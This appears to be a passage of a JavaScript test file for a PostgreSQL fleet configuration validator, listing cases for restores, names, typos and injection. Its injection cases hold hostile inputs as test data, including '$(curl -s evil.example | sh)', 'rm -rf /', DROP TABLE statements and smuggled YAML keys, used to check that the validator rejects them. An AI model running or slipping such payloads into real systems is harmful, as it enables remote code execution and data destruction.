  { name: 'a restore into another region, from a group with backups off, listed in a geoshard', category: 'geoshard mistake',
    change: (p) => {
      p.nodeGroups[1].backup = { enabled: false };
      p.nodeGroups.push({ name: 'euw1-copy', cloud: 'aws', region: 'us-east-1', restoreFrom: { nodeGroup: 'euw1', targetTime: '2026-02-30T10:14:59Z' }, backup: { enabled: true } });
      p.geoshards[0].nodeGroups.push('euw1-copy');
    },
    expected: [{ rule: 'DPG-RESTORE', fragment: /restoreFrom\.nodeGroup: 'euw1' has backups off, so there is nothing to restore/ },
      { rule: 'DPG-RESTORE', fragment: /\(euw1-copy\)\.restoreFrom: restores 'euw1' \(aws eu-west-1\) into aws us-east-1.*data residency.*Fix: put the restored group in aws eu-west-1/ },
      { rule: 'DPG-RESTORE', fragment: /restoreFrom\.targetTime: '2026-02-30T10:14:59Z' is not an ISO-8601 time/ },
      { rule: 'DPG-RESTORE', fragment: /geoshards\[0\].*\.nodeGroups: lists 'euw1-copy', which is restored from a backup.*Fix: remove 'euw1-copy' from geoshard 'eu'/ },
      { rule: 'DPG-RESTORE', fragment: /\(euw1-copy\)\.backup\.enabled: is true on a restored group.*Fix: leave backup out/ }] },
  { name: 'a group restored from itself, and a restore without a target time', category: 'wrong type',
    change: (p) => { p.nodeGroups[0].restoreFrom = { nodeGroup: 'use1', targetTim: '2026-11-27T10:14:59Z' }; },
    expected: [{ rule: 'DPG-RESTORE', fragment: /\(use1\)\.restoreFrom\.nodeGroup: names the group itself/ },
      { rule: 'DPG-TYPE', fragment: /\(use1\)\.restoreFrom\.targetTime: is missing/ },
      { rule: 'DPG-TYPE', fragment: /\(use1\)\.restoreFrom.*targetTim/ }] },
  { name: 'a restore from a removed group in a region where no group backs up', category: 'geoshard mistake',
    change: (p) => { p.nodeGroups.push({ name: 'old-copy', cloud: 'aws', region: 'ap-south-1', restoreFrom: { nodeGroup: 'old', targetTime: '2026-11-27T10:14:59Z' } }); },
    expected: [{ rule: 'DPG-RESTORE', fragment: /\(old-copy\)\.restoreFrom\.nodeGroup: 'old' is not declared, and no declared group of aws ap-south-1 backs up/ }] },
  { name: 'a restore from a restored group', category: 'impossible quorum',
    change: (p) => {
      p.nodeGroups.push({ name: 'copy1', cloud: 'aws', region: 'us-east-1', restoreFrom: { nodeGroup: 'use1', targetTime: '2026-11-27T10:14:59Z' } });
      p.nodeGroups.push({ name: 'copy2', cloud: 'aws', region: 'us-east-1', restoreFrom: { nodeGroup: 'copy1', targetTime: '2026-11-27T10:14:59.5+00:00' } });
    },
    expected: [{ rule: 'DPG-RESTORE', fragment: /\(copy2\)\.restoreFrom\.nodeGroup: 'copy1' is itself restored from a backup.*Fix: restore from the group it was restored from \('use1'\)/, times: 1 }] },
  { name: 'fleet name with upper case and punctuation', category: 'invalid name', change: (p) => { p.name = 'Ledger!'; },
    expected: [{ rule: 'DPG-NAME', fragment: /name: 'Ledger!' is not a valid fleet name/ }] },
  { name: 'group name with an underscore', category: 'invalid name', change: (p) => { p.nodeGroups[0].name = 'us_east'; p.geoshards[0].nodeGroups = ['euw1', 'euw3']; },
    expected: [{ rule: 'DPG-NAME', fragment: /nodeGroups\[0\] \(us_east\)\.name: 'us_east' is not a valid node group name/ }] },
  { name: 'group name longer than a label allows', category: 'invalid name', change: (p) => { p.nodeGroups[0].name = 'a'.repeat(64); },
    expected: [{ rule: 'DPG-NAME', fragment: /is not a valid node group name/ }] },
  { name: 'database named after a system database', category: 'invalid name', change: (p) => { p.postgres = { database: 'postgres' }; },
    expected: [{ rule: 'DPG-POSTGRES', fragment: /postgres\.database: 'postgres' is a system database of every cluster/ }] },
  { name: 'table named with a reserved word', category: 'invalid name', change: (p) => { p.replication.globalTables = ['ledger.order']; },
    expected: [{ rule: 'DPG-POSTGRES', fragment: /replication\.globalTables\[0\]: 'ledger\.order' uses the reserved word 'order'/ }] },
  { name: 'upper-case table name', category: 'invalid name', change: (p) => { p.replication.globalTables = ['Ledger.Accounts']; },
    expected: [{ rule: 'DPG-POSTGRES', fragment: /'Ledger\.Accounts' is not a plain lower-case table name/ }] },
  { name: 'DNS zone with a trailing dot', category: 'invalid name', change: (p) => { p.network.privateDnsZone = 'ledger.db.internal.'; },
    expected: [{ rule: 'DPG-NETWORK', fragment: /network\.privateDnsZone: 'ledger\.db\.internal\.' is not a DNS zone name/ }] },

  // Injection attempts in names and parameters.
  { name: 'SQL quote in a table name', category: 'injection', change: (p) => { p.replication.globalTables = [HOSTILE.sqlQuote]; },
    expected: [{ rule: 'DPG-POSTGRES', fragment: /replication\.globalTables\[0\]: 'x'; DROP TABLE accounts; --' is not a plain lower-case table name/ }] },
  { name: 'newline and statement in a table name', category: 'injection', change: (p) => { p.replication.globalTables = ['ledger.accounts\n; DROP TABLE x']; },
    expected: [{ rule: 'DPG-POSTGRES', fragment: /is not a plain lower-case table name/ }] },
  { name: 'trailing newline in a table name', category: 'injection', change: (p) => { p.replication.globalTables = ['ledger.accounts\n']; },
    expected: [{ rule: 'DPG-POSTGRES', fragment: /replication\.globalTables\[0\]: 'ledger\.accounts\n' is not a plain lower-case table name/ }] },
  { name: 'quoted statement in a parameter value', category: 'injection', change: (p) => { p.postgres = { parameters: { work_mem: "64MB'; ALTER SYSTEM SET ssl = off; --" } }; },
    expected: [{ rule: 'DPG-POSTGRES', fragment: /postgres\.parameters\.work_mem: the value .* contains characters that are not allowed/ }] },
  { name: 'command substitution in a parameter value', category: 'injection', change: (p) => { p.postgres = { parameters: { work_mem: HOSTILE.shell } }; },
    expected: [{ rule: 'DPG-POSTGRES', fragment: /the value "\$\(curl -s evil\.example \| sh\)" contains characters that are not allowed/ }] },
  { name: 'backticks in a parameter value', category: 'injection', change: (p) => { p.postgres = { parameters: { search_path: HOSTILE.backticks } }; },
    expected: [{ rule: 'DPG-POSTGRES', fragment: /postgres\.parameters\.search_path: the value "`reboot`"/ }] },
  { name: 'YAML keys smuggled in a parameter value', category: 'injection', change: (p) => { p.postgres = { parameters: { work_mem: HOSTILE.yamlKeys } }; },
    expected: [{ rule: 'DPG-POSTGRES', fragment: /the value "ok\\nssl: off\\nlisten: 0\.0\.0\.0" contains characters that are not allowed/ }] },
  { name: 'statement in a parameter name', category: 'injection', change: (p) => { p.postgres = { parameters: { 'work_mem = 1; ssl': 'off' } }; },
    expected: [{ rule: 'DPG-POSTGRES', fragment: /'work_mem = 1; ssl' is not a postgresql\.conf parameter name/ }] },
  { name: 'managed parameter turned off', category: 'injection', change: (p) => { p.postgres = { parameters: { ssl: 'off' } }; },
    expected: [{ rule: 'DPG-POSTGRES', fragment: /'ssl' is managed by the library/ }] },
  { name: 'SQL in a geoshard partition value', category: 'injection', change: (p) => { p.geoshards[0].tables[0].values = ["eu'); DROP TABLE ledger.entries; --"]; },
    expected: [{ rule: 'DPG-GEOSHARD', fragment: /"eu'\); DROP TABLE ledger\.entries; --" is not a plain partition value/ }] },
  { name: 'newline in a geoshard partition value', category: 'injection', change: (p) => { p.geoshards[0].tables[0].values = ['eu\nus']; },
    expected: [{ rule: 'DPG-GEOSHARD', fragment: /"eu\\nus" is not a plain partition value/ }] },
  { name: 'shell in a Patroni tag value', category: 'injection', change: (p) => { p.nodeGroups[0].patroniTags = { rack: HOSTILE.shell }; },
    expected: [{ rule: 'DPG-MEMBERS', fragment: /nodeGroups\[0\] \(use1\)\.patroniTags\.rack: Patroni tag keys must be lower-case identifiers/ }] },
  { name: 'YAML keys in a Patroni tag key', category: 'injection', change: (p) => { p.nodeGroups[0].patroniTags = { 'nofailover: true\nclonefrom': 'true' }; },
    expected: [{ rule: 'DPG-MEMBERS', fragment: /patroniTags\.nofailover: true\nclonefrom: Patroni tag keys/ }] },
  { name: 'shell in the DNS zone', category: 'injection', change: (p) => { p.network.privateDnsZone = 'db.internal; rm -rf /'; },
    expected: [{ rule: 'DPG-NETWORK', fragment: /'db\.internal; rm -rf \/' is not a DNS zone name/ }] },
  { name: 'shell in a group name', category: 'injection', change: (p) => { p.nodeGroups[0].name = HOSTILE.shell; },
    expected: [{ rule: 'DPG-NAME', fragment: /'\$\(curl -s evil\.example \| sh\)' is not a valid node group name/ }] },
  { name: 'backticks in a geoshard name', category: 'injection', change: (p) => { p.geoshards[0].name = HOSTILE.backticks; },
    expected: [{ rule: 'DPG-NAME', fragment: /'`reboot`' is not a valid geoshard name/ }] },
  { name: 'quote in the database name', category: 'injection', change: (p) => { p.postgres = { database: "app'; DROP DATABASE app; --" }; },
    expected: [{ rule: 'DPG-POSTGRES', fragment: /postgres\.database: 'app'; DROP DATABASE app; --' is not a plain lower-case database name/ }] },
  { name: 'SQL in a delta-apply column', category: 'injection', change: (p) => { p.replication.deltaApplyColumns = [{ table: 'ledger.accounts', column: 'balance); DROP TABLE x; --' }]; },
    expected: [{ rule: 'DPG-CONFLICTS', fragment: /is not a plain lower-case table and column name/ }] },
  { name: 'shell in the secret name prefix', category: 'injection', change: (p) => { p.secrets = { namePrefix: 'ledger-$(id)' }; },
    expected: [{ rule: 'DPG-NETWORK', fragment: /secrets\.namePrefix: 'ledger-\$\(id\)' cannot prefix secret names/ }] },
  { name: 'shell in a machine type', category: 'injection', change: (p) => { p.nodeGroups[0].machineType = 'm6i.large; reboot'; },
    expected: [{ rule: 'DPG-MEMBERS', fragment: /'m6i\.large; reboot' is not a machine type name/ }] },
  { name: 'command after a client CIDR', category: 'injection', change: (p) => { p.network.clientCidrs = ['10.200.0.0/16; curl evil.example']; },
    expected: [{ rule: 'DPG-CIDR', fragment: /'10\.200\.0\.0\/16; curl evil\.example' is not an IPv4 CIDR/ }] },

  // Typos that would silently fall back to defaults.
  { name: 'misspelt property of a node group', category: 'typo', change: (p) => { p.nodeGroups[0].memebers = 5; },
    expected: [{ rule: 'DPG-TYPE', fragment: /nodeGroups\[0\]\.memebers: is not a property of nodeGroups\[0\]\. Fix: did you mean 'members'\?/ }] },
  { name: 'misspelt top-level property', category: 'typo', change: (p) => { p.geoShards = p.geoshards; delete p.geoshards; },
    expected: [{ rule: 'DPG-TYPE', fragment: /geoShards: is not a property\. Fix: did you mean 'geoshards'\?/ }] },
  { name: 'property of another object', category: 'typo', change: (p) => { p.ha = { synchronousStandbys: 1, timing: 'fast' }; },
    expected: [{ rule: 'DPG-TYPE', fragment: /ha\.timing: is not a property of ha\. Fix: remove it, or use one of synchronousMode/ }] },

  // Provider wiring.
  { name: 'awsProviders as a string', category: 'provider wiring', change: (p) => { p.awsProviders = 'us-east-1'; },
    expected: [{ rule: 'DPG-TYPE', fragment: /awsProviders: must be a list, got the string "us-east-1"/ }] },
  { name: 'an AWS provider that is not one', category: 'provider wiring', change: (p) => { p.awsProviders = [{ region: 'us-east-1', provider: { region: 'us-east-1' } }]; },
    expected: [{ rule: 'DPG-TYPE', fragment: /awsProviders\[0\]\.provider: must be an AwsProvider, got an object/ }] },
  { name: 'googleProvider as a project id', category: 'provider wiring', change: (p) => { p.googleProvider = 'my-project'; },
    expected: [{ rule: 'DPG-TYPE', fragment: /googleProvider: must be a GoogleProvider, got the string "my-project"/ }] },
];
